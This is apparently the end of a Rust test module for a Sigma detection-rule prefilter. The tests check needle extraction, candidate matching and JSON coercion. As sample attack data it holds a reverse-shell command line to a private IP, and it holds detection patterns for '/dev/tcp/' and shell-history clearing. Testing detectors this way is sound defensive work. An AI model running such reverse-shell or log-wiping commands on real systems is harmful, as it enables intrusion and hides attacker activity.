        // Keyword gates hold text needles only.
        let g = gate_of("  kw:\n    - 4688\n    - evil\n  condition: kw\n");
        assert!(
            g.iter().flatten().all(|a| matches!(a, Atom::Needle(..))),
            "{g:?}"
        );
        // A regex or a number still needs the field.
        assert_eq!(
            gate_of("  a:\n    CommandLine|re: 'x.*y'\n  condition: a\n"),
            vec![vec![present("CommandLine")]]
        );
        // null can hold on an absent field.
        assert_eq!(
            gate_of("  a:\n    User: null\n  condition: a\n"),
            Gate::new()
        );
        // Case-sensitive needles fall back to presence.
        assert_eq!(
            gate_of("  a:\n    User|cased: Admin\n  condition: a\n"),
            vec![vec![present("User")]]
        );
        // `all of` nothing is vacuously true: no gate.
        assert_eq!(
            gate_of("  a:\n    verb: x\n  condition: a or all of nothing*\n"),
            Gate::new()
        );
        // `1 of` nothing never holds.
        assert_eq!(
            gate_of("  a:\n    verb: xyz\n  condition: a and 1 of nothing*\n"),
            vec![Clause::new()]
        );
    }

    /// The candidates always include the rules that match, case folded like rsigma, numbers
    /// through their text, arrays by element.
    #[test]
    fn candidates_include_matches() {
        let rules = vec![
            rule("  a:\n    verb: create\n    objectRef.subresource: exec\n  condition: a\n"),
            rule("  a:\n    Image|endswith:\n      - /bash\n      - /sh\n  condition: a\n"),
            rule("  a:\n    EventID: 4688\n  condition: a\n"),
            rule("  a:\n    names|contains: ÄRZTE\n  condition: a\n"),
            rule("  a:\n    verb: x\n  condition: not a\n"),
            rule("  kw:\n    - '/dev/tcp/'\n  condition: kw\n"),
        ];
        let pf = Prefilter::new(&rules);
        let stats = pf.stats(&rules);
        assert_eq!(stats.ungated, 1);
        assert_eq!(stats.never, 0);
        let cases = [
            (
                json!({"verb": "CREATE", "objectRef": {"subresource": "EXEC"}}),
                vec![0, 4],
            ),
            (json!({"Image": "/usr/bin/BASH"}), vec![1, 4]),
            (json!({"EventID": 4688}), vec![2, 4]),
            (json!({"EventID": "4688"}), vec![2, 4]),
            (json!({"names": ["x", "die ärzte"]}), vec![3, 4]),
            (json!({"verb": "get"}), vec![4]),
            (
                json!({"proc": {"args": ["-c", "bash -i >& /DEV/TCP/10.0.0.1/9 0>&1"]}}),
                vec![4, 5],
            ),
        ];
        for (event, expected) in cases {
            let je = FastEvent::new(&event);
            let mut out = Vec::new();
            pf.evaluate(&rules, &je, &[], &mut out);
            let fired: Vec<usize> = (0..rules.len())
                .filter(|&i| evaluate_rule(&rules[i], &je).is_some())
                .collect();
            assert_eq!(fired, expected, "{event}");
            assert_eq!(out.len(), expected.len(), "{event}");
            assert!(pf.check(&rules, &je, None).1.is_empty(), "{event}");
        }
        // A benign event makes only the ungated rule a candidate.
        let event = json!({"verb": "get", "Image": "/usr/bin/ls", "EventID": 1});
        let mut candidates = Vec::new();
        pf.candidates(&FastEvent::new(&event), |i| candidates.push(i));
        assert_eq!(candidates, vec![4]);
    }

    /// The merge in `look_primary` needs the event's keys in order: serde_json's map keeps
    /// them sorted unless a crate in the build turns on its `preserve_order` feature.
    #[test]
    fn event_keys_come_sorted() {
        let event: Value =
            serde_json::from_str(r#"{"verb": 1, "Image": 2, "apiVersion": 3, "_x": 4}"#).unwrap();
        let keys: Vec<&String> = event.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["Image", "_x", "apiVersion", "verb"]);
    }

    #[test]
    fn regex_needles_take_the_longest_plain_run() {
        let n = |p: &str| {
            regex_needles(p, "f").map(|g| {
                g.into_iter()
                    .flatten()
                    .map(|a| match a {
                        Atom::Needle(_, t) => t,
                        other => panic!("{other:?}"),
                    })
                    .collect::<Vec<_>>()
            })
        };
        assert_eq!(n("(?i)^Trojan.*FOUND$"), Some(vec!["trojan".to_owned()]));
        assert_eq!(
            n("(?i)^cat /dev/null >.*sh_history$"),
            Some(vec!["cat /dev/null >".to_owned()])
        );
        // `s` and `k` also match `ſ` and the Kelvin sign under (?i): they end a run.
        assert_eq!(n("(?i)history -c"), Some(vec!["tory -c".to_owned()]));
        assert_eq!(n("(?i)kkkk"), None);
        assert_eq!(n("kkkk"), Some(vec!["kkkk".to_owned()]));
        assert_eq!(
            n("(?i)abc|defg"),
            Some(vec!["abc".to_owned(), "defg".to_owned()])
        );
        assert_eq!(n("abc|de"), None);
        assert_eq!(n(r"Foo\.Bar"), Some(vec!["foo.bar".to_owned()]));
        assert_eq!(n("[a-z]+"), None);
        assert_eq!(n("(?i)straße"), Some(vec!["tra".to_owned()]));
        assert_eq!(n("(ab)cd"), Some(vec!["abcd".to_owned()]));
        assert_eq!(n("not a regex ("), None);
    }

    /// Whatever a wildcard regex matches, in any casing Unicode folds together, holds one of
    /// its needles once lower-cased as [`search`] lower-cases it.
    #[test]
    fn regex_needles_hold_in_every_match() {
        const PIECES: [&str; 12] = ["s", "k", "a", "b", "t", "/", " ", "-", "ß", "é", "x1", "sk"];
        let variants = |c: char| -> Vec<String> {
            match c {
                's' => vec!["s".into(), "S".into(), "\u{17F}".into()],
                'k' => vec!["k".into(), "K".into(), "\u{212A}".into()],
                'é' => vec!["é".into(), "É".into()],
                'ß' => vec!["ß".into(), "ẞ".into()],
                c => vec![c.to_string(), c.to_uppercase().to_string()],
            }
        };
        let mut rng = palisade_core::rng::XorShift::new(0x9E37_79B9_7F4A_7C15);
        let mut next = move || rng.next_u64();
        let mut gated = 0;
        for _ in 0..3000 {
            let ci = next() % 2 == 0;
            let parts: Vec<String> = (0..1 + next() % 3)
                .map(|_| {
                    (0..1 + next() % 6)
                        .map(|_| PIECES[(next() % 12) as usize])
                        .collect()
                })
                .collect();
            let pattern = format!(
                "{}^{}$",
                if ci { "(?i)" } else { "" },
                parts
                    .iter()
                    .map(|p| regex::escape(p))
                    .collect::<Vec<_>>()
                    .join(".*")
            );
            let re = regex::Regex::new(&pattern).unwrap();
            let Some(gate) = regex_needles(&pattern, "f") else {
                continue;
            };
            gated += 1;
            for _ in 0..5 {
                let mut text = String::new();
                for (i, part) in parts.iter().enumerate() {
                    if i > 0 {
                        text.push_str(["", "Zz", "ſK"][(next() % 3) as usize]);
                    }
                    for c in part.chars() {
                        let v = if ci { variants(c) } else { vec![c.to_string()] };
                        text.push_str(&v[(next() % v.len() as u64) as usize]);
                    }
                }
                assert!(re.is_match(&text), "{pattern} {text:?}");
                let lowered = text.to_lowercase();
                let found = gate[0].iter().any(|a| match a {
                    Atom::Needle(_, t) => lowered.contains(t.as_str()),
                    _ => false,
                });
                assert!(found, "{pattern} {text:?} {gate:?}");
            }
        }
        assert!(gated > 500, "{gated}");
    }

    /// Reading JSON values directly coerces text and numbers exactly as rsigma's
    /// `EventValue` conversion does.
    #[test]
    fn json_coercion_matches_event_values() {
        let values = json!([
            "Text", 0, -7, 42, i64::MAX, u64::MAX, 1.5, -0.0, 1e300, 2.5e-8, true, false, null,
            "12.50", " 4", "4e2", [1, ["a", 2.0]], {"k": "v"}
        ]);
        for v in values.as_array().unwrap() {
            let ev = EventValue::from(v);
            let (mut a, mut b) = (Vec::new(), Vec::new());
            each_json_text(v, &mut |t| a.push(t.to_owned()));
            each_text(&ev, &mut |t| b.push(t.to_owned()));
            assert_eq!(a, b, "{v}");
            let (mut a, mut b) = (Vec::new(), Vec::new());
            each_json_number(v, &mut |x| a.push(x.to_bits()));
            each_number(&ev, &mut |x| b.push(x.to_bits()));
            assert_eq!(a, b, "{v}");
        }
    }
}
